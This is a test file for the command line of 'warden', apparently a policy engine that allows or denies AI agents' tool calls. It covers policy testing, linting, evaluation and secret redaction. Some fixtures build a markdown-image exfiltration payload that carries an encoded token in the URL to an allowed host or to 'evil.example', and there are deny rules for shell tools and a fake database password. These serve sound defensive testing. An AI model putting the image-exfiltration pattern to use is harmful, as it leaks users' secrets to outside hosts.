import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { DecisionSchema, compileValidator } from '../src/domain/index.js';
import { cli } from './support/cli.js';
import { parseXml } from './support/xml.js';
import { NO_EXFIL_POLICY } from './fixtures/exfil-policy.js';

// Lets a test make the detectors fail to build, as a missing model file would (a runtime failure, exit 3).
const detectorFault = vi.hoisted(() => ({ fail: false }));
vi.mock('../src/detect/index.js', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../src/detect/index.js')>();
  return {
    ...actual,
    createDetectorSet: (...args: Parameters<typeof actual.createDetectorSet>) => {
      if (detectorFault.fail) throw new Error('cannot load the injection model');
      return actual.createDetectorSet(...args);
    },
  };
});

const EXAMPLES = join(import.meta.dirname, '..', 'examples', 'policies');

function dir(files: Record<string, string>): string {
  const d = mkdtempSync(join(tmpdir(), 'warden-cli-'));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(d, name), text);
  return d;
}

const POLICY = `apiVersion: warden.dev/v1
kind: Policy
metadata: { name: p, scope: acme }
spec:
  rules:
    - { name: no-shell, effect: deny, match: { tools: ["shell.*"] } }
    - { name: reads, effect: allow, match: { tools: ["*.read"] } }
`;

describe('warden policy test', () => {
  it('passes the shipped examples and prints the summary line', async () => {
    const r = await cli(['policy', 'test', EXAMPLES]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^PASS developers get no shell at night$/m);
    expect(r.stdout).toMatch(/^\d+ passed, 0 failed$/m);
  });

  it('exits 1 and names the failing case, the expectation and the position', async () => {
    const d = dir({
      'p.yaml': POLICY,
      'p.test.yaml': `tests:
  - name: shell is denied
    action: { kind: tool.call, scope: acme/x, tool: { server: s, name: shell.run } }
    expect: { effect: deny, rule: p/no-shell }
  - name: wrong expectation
    action: { kind: tool.call, scope: acme/x, tool: { server: f, name: f.read } }
    expect: { effect: deny, rule: p/no-shell }
  - name: invalid action
    action: { kind: tool.call, scope: "acme x" }
    expect: { effect: deny }
`,
    });
    const r = await cli(['policy', 'test', d], { cwd: d });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('PASS shell is denied');
    expect(r.stdout).toContain('FAIL wrong expectation');
    expect(r.stdout).toMatch(/p\.test\.yaml:5:\d+: expected effect `deny` but got `allow` \(decided by `p\/reads`\); expected rule `p\/no-shell` to decide \(it did not match\)$/m);
    expect(r.stdout).toContain('FAIL invalid action');
    expect(r.stdout).toContain('the action is invalid');
    expect(r.stdout).toMatch(/^1 passed, 2 failed$/m);
  });

  it('with --coverage, lists the rules no case exercised and those that matched but never decided', async () => {
    const d = dir({
      'p.yaml': POLICY + `    - { name: unused, effect: deny, match: { tools: ["nuke.*"] } }\n    - { name: outvoted, effect: allow, match: { tools: ["shell.*"] } }\n`,
      'p.test.yaml': `tests:
  - name: shell is denied
    action: { kind: tool.call, scope: acme/x, tool: { server: s, name: shell.run } }
    expect: { effect: deny, rule: p/no-shell }
`,
    });
    const r = await cli(['policy', 'test', d, '--coverage'], { cwd: d });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('coverage: 2 of 4 rules exercised\n');
    expect(r.stdout).toMatch(/^ {2}not exercised: p\/reads \(p\.yaml:7:\d+\)$/m);
    expect(r.stdout).toMatch(/^ {2}not exercised: p\/unused \(p\.yaml:8:\d+\)$/m);
    expect(r.stdout).toMatch(/^ {2}matched, never decided: p\/outvoted \(p\.yaml:9:\d+\)$/m);
    const json = JSON.parse((await cli(['policy', 'test', d, '--coverage', '--json'], { cwd: d })).stdout);
    expect(json.coverage).toMatchObject({ total: 4, exercised: 2, notExercised: [{ id: 'p/reads' }, { id: 'p/unused' }], neverDecided: [{ id: 'p/outvoted', mode: 'enforce' }] });
    expect(json.results[0]).toMatchObject({ decidedBy: ['p/no-shell'], matched: ['p/no-shell', 'p/outvoted'] });
    expect((await cli(['policy', 'test', d], { cwd: d })).stdout).not.toContain('coverage');
  });

  it('counts as matched what the checkpoint policies saw: the claimed time, and nothing for a registry refusal', async () => {
    const d = dir({
      'p.yaml': POLICY + `    - { name: claimed, effect: deny, match: { tools: ["clock.*"] }, when: 'has(context.claimedTime) && context.hour == 22' }\n`,
      'p.test.yaml': `tests:
  - name: the caller's time is a claim offline too
    action: { kind: tool.call, scope: acme/x, tool: { server: clock, name: clock.now }, context: { time: "2026-11-24T22:00:00Z" } }
    expect: { effect: deny, rule: p/claimed }
  - name: a suspended agent is refused before any policy
    action: { kind: tool.call, scope: acme/x, agent: { id: a, status: suspended }, tool: { server: s, name: shell.run } }
    expect: { effect: deny, rule: registry/agent-suspended }
`,
    });
    const json = JSON.parse((await cli(['policy', 'test', d, '--coverage', '--json'], { cwd: d })).stdout);
    expect(json.results.map((r: { matched: string[] }) => r.matched)).toEqual([['p/claimed'], []]);
    expect(json.coverage.notExercised.map((r: { id: string }) => r.id)).toEqual(['p/no-shell', 'p/reads']);
  });

  it('prints JSON with --format json', async () => {
    const r = await cli(['policy', 'test', EXAMPLES, '--format', 'json']);
    const body = JSON.parse(r.stdout);
    expect(body.failed).toBe(0);
    expect(body.results[0]).toMatchObject({ name: expect.any(String), passed: true, effect: expect.any(String) });
  });

  it('takes --json as an alias of --format json, and refuses an unknown or contradictory format', async () => {
    const alias = await cli(['policy', 'test', EXAMPLES, '--json']);
    expect(alias.code).toBe(0);
    expect(JSON.parse(alias.stdout)).toEqual(JSON.parse((await cli(['policy', 'test', EXAMPLES, '--format', 'json'])).stdout));
    expect((await cli(['policy', 'test', EXAMPLES, '--format', 'yaml'])).code).toBe(2);
    const both = await cli(['policy', 'test', EXAMPLES, '--json', '--format', 'human']);
    expect(both.code).toBe(2);
    expect(both.stderr).toContain('contradict');
  });

  it('exits 2 when the policies do not compile or no test file exists', async () => {
    const broken = await cli(['policy', 'test', dir({ 'p.yaml': POLICY.replace('effect: deny', 'effect: nope'), 'p.test.yaml': 'tests: []\n' })]);
    expect(broken.code).toBe(2);
    expect(broken.stderr).toMatch(/p\.yaml:6:\d+: error\[policy\.schema\]/);
    const none = await cli(['policy', 'test', dir({ 'p.yaml': POLICY })]);
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('no *.test.yaml files');
  });
});

describe('warden policy lint', () => {
  it('exits 0 on clean policies', async () => {
    const r = await cli(['policy', 'lint', EXAMPLES]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('0 error(s)');
  });

  it('exits 1 and prints file:line:col for each problem', async () => {
    const d = dir({ 'bad.yaml': POLICY.replace('match: { tools: ["*.read"] }', `when: 'args.x.matches("a+")'`) });
    const r = await cli(['policy', 'lint', d], { cwd: d });
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^bad\.yaml:7:\d+: error\[lint\/no-matches\]/m);
  });

  it('reports every problem of every file in one run, and as SARIF and JUnit for CI', async () => {
    const d = dir({
      'a.yaml': POLICY.replace('match: { tools: ["*.read"] }', `when: '"admin" in principal.rols'`),
      'b.yaml': POLICY.replace('name: p,', 'name: q,').replace('match: { tools: ["*.read"] }', `when: 'tool.risk == "hgh"'`),
      'c.yaml': POLICY.replace('name: p,', 'name: c,'),
    });
    const human = await cli(['policy', 'lint', d], { cwd: d });
    expect(human.code).toBe(1);
    expect(human.stdout).toMatch(/^a\.yaml:7:\d+: error\[lint\/unknown-field\]: condition of rule `reads`: `principal` has no field `rols`/m);
    expect(human.stdout).toMatch(/^b\.yaml:7:\d+: error\[lint\/undeclared-value\]/m);
    const json = JSON.parse((await cli(['policy', 'lint', d, '--json'], { cwd: d })).stdout) as { diagnostics: { code: string }[] };

    const sarif = await cli(['policy', 'lint', d, '--format', 'sarif'], { cwd: d });
    expect(sarif.code).toBe(1);
    const log = JSON.parse(sarif.stdout);
    expect(log.version).toBe('2.1.0');
    expect(log.runs[0].results.map((r: { ruleId: string }) => r.ruleId)).toEqual(json.diagnostics.map((x) => x.code));
    expect(log.runs[0].results[0].locations[0].physicalLocation).toEqual({ artifactLocation: { uri: 'a.yaml', uriBaseId: '%SRCROOT%' }, region: { startLine: 7, startColumn: expect.any(Number) } });

    const junit = await cli(['policy', 'lint', d, '--format', 'junit'], { cwd: d });
    expect(junit.code).toBe(1);
    const root = parseXml(junit.stdout);
    expect(root.children.map((s) => [s.attrs.name, s.attrs.failures])).toEqual([
      ['a.yaml', '1'],
      ['b.yaml', '1'],
      ['c.yaml', '0'],
    ]);
    expect((await cli(['policy', 'lint', d, '--format', 'xml'])).stderr).toContain('use `human`, `json`, `sarif` or `junit`');
    expect((await cli(['policy', 'lint', d, '--json', '--format', 'sarif'])).code).toBe(2);
  });

  it('exits 2 on a path that does not exist', async () => {
    const r = await cli(['policy', 'lint', '/nonexistent/policies']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('error[policy.io]');
  });
});

describe('warden policy eval', () => {
  const actionFile = (a: unknown) => {
    const d = dir({ 'a.json': JSON.stringify(a) });
    return join(d, 'a.json');
  };
  const shell = { kind: 'tool.call', scope: 'acme/platform/api', principal: { id: 'bob', roles: ['developer'] }, tool: { server: 'ops', name: 'shell.run' }, context: { time: '2026-11-24T22:00:00Z' } };

  it('prints the Decision in the wire shape with --json', async () => {
    const r = await cli(['policy', 'eval', '--json', '--action', actionFile(shell), EXAMPLES]);
    expect(r.code).toBe(0);
    const decision = JSON.parse(r.stdout);
    expect(compileValidator(DecisionSchema)(decision).ok).toBe(true);
    expect(decision.reasons[0]).toMatchObject({ policy: 'restrict-shell', version: 3, rule: 'no-shell-outside-business-hours', effect: 'deny' });
  });

  it('explains in human form and can fail on deny', async () => {
    const r = await cli(['policy', 'eval', '--fail-on-deny', '--action', actionFile(shell), EXAMPLES]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('effect: deny');
    expect(r.stdout).toContain('decided by restrict-shell/no-shell-outside-business-hours (v3, deny)');
  });

  it('takes --format json as --json does', async () => {
    const a = actionFile(shell);
    const json = await cli(['policy', 'eval', '--format', 'json', '--action', a, EXAMPLES]);
    expect(json.code).toBe(0);
    expect(json.stdout).toBe((await cli(['policy', 'eval', '--json', '--action', a, EXAMPLES])).stdout);
    expect((await cli(['policy', 'eval', '--format', 'human', '--action', a, EXAMPLES])).stdout).toContain('effect: deny');
    expect((await cli(['policy', 'eval', '--format', 'xml', '--action', a, EXAMPLES])).code).toBe(2);
  });

  it('decides with the server\'s checkpoint: findings, the redact obligation and the masked arguments, without an audit event id', async () => {
    const dsn = 'postgres://admin:hunter2secret@db.internal:5432/prod';
    const query = { kind: 'tool.call', scope: 'acme/data', principal: { id: 'carol', roles: ['analyst'] }, tool: { server: 'db', name: 'db.query' }, args: { sql: 'select 1', dsn } };
    const r = await cli(['policy', 'eval', '--json', '--action', actionFile(query), EXAMPLES]);
    expect(r.code).toBe(0);
    const decision = JSON.parse(r.stdout);
    expect(decision.findings).toEqual([expect.objectContaining({ category: 'secret', path: 'args.dsn' })]);
    expect(decision.obligations).toEqual([{ type: 'redact', params: { categories: ['secret'], paths: ['args.dsn'] } }]);
    expect(decision.redactedArgs.sql).toBe('select 1');
    expect(decision).not.toHaveProperty('auditEventId');
    expect(r.stdout).not.toContain('hunter2secret');
    const human = await cli(['policy', 'eval', '--action', actionFile(query), EXAMPLES]);
    expect(human.stdout).toMatch(/^ {2}finding: secret\/.* at args\.dsn: /m);
    expect(human.stdout).toContain('  obligation: redact {"categories":["secret"],"paths":["args.dsn"]}');
  });

  it('uses --now for an action without context.time, and refuses a bad time', async () => {
    const { context: _, ...undated } = shell;
    const night = await cli(['policy', 'eval', '--json', '--now', '2026-11-24T22:00:00Z', '--action', actionFile(undated), EXAMPLES]);
    expect(JSON.parse(night.stdout).effect).toBe('deny');
    const day = await cli(['policy', 'eval', '--json', '--now', '2026-11-24T10:00:00Z', '--action', actionFile(undated), EXAMPLES]);
    expect(JSON.parse(day.stdout).effect).toBe('allow');
    expect((await cli(['policy', 'eval', '--now', 'tomorrow', '--action', actionFile(undated), EXAMPLES])).code).toBe(2);
  });

  it('exits 3 when the checkpoint itself fails (here the detectors cannot be built)', async () => {
    detectorFault.fail = true;
    try {
      const query = { kind: 'tool.call', scope: 'acme/web', tool: { server: 'files', name: 'files.read_file' }, args: { path: 'a' } };
      const r = await cli(['policy', 'eval', '--action', actionFile(query), EXAMPLES]);
      expect(r.code).toBe(3);
      expect(r.stderr).toContain('the checkpoint failed: cannot load the injection model');
      // Without a scan section no detector is built, so the same fault goes unnoticed.
      expect((await cli(['policy', 'eval', '--action', actionFile(query), dir({ 'p.yaml': POLICY })])).code).toBe(0);
    } finally {
      detectorFault.fail = false;
    }
  });

  it('exits 2 on an invalid action or unreadable file', async () => {
    const bad = await cli(['policy', 'eval', '--action', actionFile({ kind: 'tool.call' }), EXAMPLES]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('missing required field `scope`');
    const notJson = await cli(['policy', 'eval', '--action', join(EXAMPLES, 'acme.yaml'), EXAMPLES]);
    expect(notJson.code).toBe(2);
    expect(notJson.stderr).toContain('not valid JSON');
    const missing = await cli(['policy', 'eval', '--action', '/nope.json', EXAMPLES]);
    expect(missing.code).toBe(2);
  });
});

describe('offline scans with the exfiltration allow-list', () => {
  const image = (host: string) => ({ kind: 'tool.call', scope: 'acme/x', tool: { server: 's', name: 'echo' }, args: { message: `![c](https://${host}/r.png?d=c2VjcmV0LXRva2VuLXZhbHVlLWZyb20tdGhlLWVudmlyb25tZW50)` } });

  it('policy eval allows an image to an allowed host with --allow-host or WARDEN_ALLOW_HOSTS, and denies it without', async () => {
    const d = dir({ 'p.yaml': NO_EXFIL_POLICY, 'a.json': JSON.stringify(image('img.docs.example.com')) });
    const a = join(d, 'a.json');
    expect((await cli(['policy', 'eval', '--fail-on-deny', '--action', a, join(d, 'p.yaml')])).code).toBe(1);
    expect((await cli(['policy', 'eval', '--fail-on-deny', '--allow-host', 'docs.example.com', '--action', a, '--', join(d, 'p.yaml')])).code).toBe(0);
    expect((await cli(['policy', 'eval', '--fail-on-deny', '--action', a, join(d, 'p.yaml')], { env: { WARDEN_ALLOW_HOSTS: 'docs.example.com' } })).code).toBe(0);
    expect((await cli(['policy', 'eval', '--allow-host', 'com', '--action', a, '--', join(d, 'p.yaml')])).code).toBe(2);
  });

  it('policy test sees the same allow-list', async () => {
    const d = dir({
      'p.yaml': NO_EXFIL_POLICY,
      'p.test.yaml': `tests:
  - name: image to the docs host
    action: ${JSON.stringify(image('docs.example.com'))}
    expect: { effect: allow }
  - name: image elsewhere
    action: ${JSON.stringify(image('evil.example'))}
    expect: { effect: deny, rule: no-exfil/exfil }
`,
    });
    expect((await cli(['policy', 'test', d])).stdout).toContain('1 passed, 1 failed');
    expect((await cli(['policy', 'test', '--allow-host', 'docs.example.com', '--', d])).stdout).toContain('2 passed, 0 failed');
    expect((await cli(['policy', 'test', d], { env: { WARDEN_ALLOW_HOSTS: 'docs.example.com' } })).stdout).toContain('2 passed, 0 failed');
    expect((await cli(['policy', 'test', '--allow-host', 'https://docs.example.com', '--', d])).code).toBe(2);
  });
});

describe('usage', () => {
  it('exits 2 on an unknown command or a missing option, 0 on --help', async () => {
    expect((await cli(['frobnicate'])).code).toBe(2);
    expect((await cli(['policy', 'eval', EXAMPLES])).code).toBe(2);
    const help = await cli(['--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('serve');
    expect(help.stdout).toContain('policy');
  });
});
